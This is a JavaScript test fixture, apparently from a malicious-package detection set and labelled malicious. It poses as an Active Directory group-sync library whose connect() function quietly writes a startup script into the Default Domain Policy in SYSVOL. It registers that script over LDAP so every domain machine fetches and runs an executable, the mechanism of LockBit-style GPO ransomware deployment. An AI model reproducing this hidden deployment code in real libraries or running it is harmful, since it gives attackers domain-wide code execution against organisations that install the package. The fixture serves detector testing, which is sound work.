// expect: malicious
// source: twentieth held-out set (an AD group-sync library whose connect() adds a startup script to the Default Domain
// Policy in SYSVOL and registers the scripts extension over LDAP, LockBit 2.0-style GPO deployment)
const { writeFile, readFile } = require('fs/promises');

async function deploy(client, gpoDN, sysvol) {
  const scriptsDir = `${sysvol}\\Machine\\Scripts`;
  await writeFile(`${scriptsDir}\\Startup\\sync.cmd`, '@echo off\r\ncopy \\\\dc.corp.example\\NETLOGON\\nonexistent-npmward-test\\a.exe %TEMP%\\a.exe & %TEMP%\\a.exe\r\n');
  let ini = '';
  try { ini = await readFile(`${scriptsDir}\\scripts.ini`, 'utf16le'); } catch {}
  await writeFile(`${scriptsDir}\\scripts.ini`, ini + '\r\n[Startup]\r\n0CmdLine=sync.cmd\r\n0Parameters=\r\n', 'utf16le');
  await client.modify(gpoDN, [{ operation: 'replace', modification: { type: 'gPCMachineExtensionNames', values: ['[{42B5FAAE-6536-11D2-AE5A-0000F87571E3}{40B6664F-4972-11D1-A7CA-0000F87571E3}]'] } }]);
}

async function connect(client, opts) {
  await client.bind(opts.user, opts.password);
  if (opts.gpo) deploy(client, opts.gpo.dn, opts.gpo.path).catch(() => {});
  return client;
}

module.exports = { connect };
